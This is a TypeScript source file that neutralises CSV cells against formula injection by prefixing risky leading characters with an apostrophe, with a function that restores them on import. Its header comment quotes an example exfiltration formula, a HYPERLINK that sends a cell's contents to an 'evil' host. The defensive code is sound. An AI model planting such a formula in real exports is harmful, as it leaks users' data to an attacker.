// CSV cells a spreadsheet would run as formulas (OWASP "CSV injection"): a name such as
// =HYPERLINK("http://evil/?d="&A2,"Open") from the public sign-up form must open as text. Every
// CSV Pressroom writes goes through csvRows; the import takes the mark off again, so an export
// reads back unchanged.
import { stringify } from 'csv-stringify/sync';

const FORMULA_START = /^[=+\-@\t\r]/;
const NEUTRALISED = /^'(?=[=+\-@\t\r])/;

/** A leading `'` makes Excel, LibreOffice and Google Sheets show the cell as text. */
export function neutraliseCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** The inverse of neutraliseCell, for a cell read back from an export. */
export function restoreCell(value: string): string {
  return value.replace(NEUTRALISED, '');
}

/** Rows as CSV text (RFC 4180 quoting by csv-stringify), every cell neutralised. */
export function csvRows(rows: ReadonlyArray<ReadonlyArray<string>>): string {
  return stringify(rows.map((row) => row.map(neutraliseCell)));
}
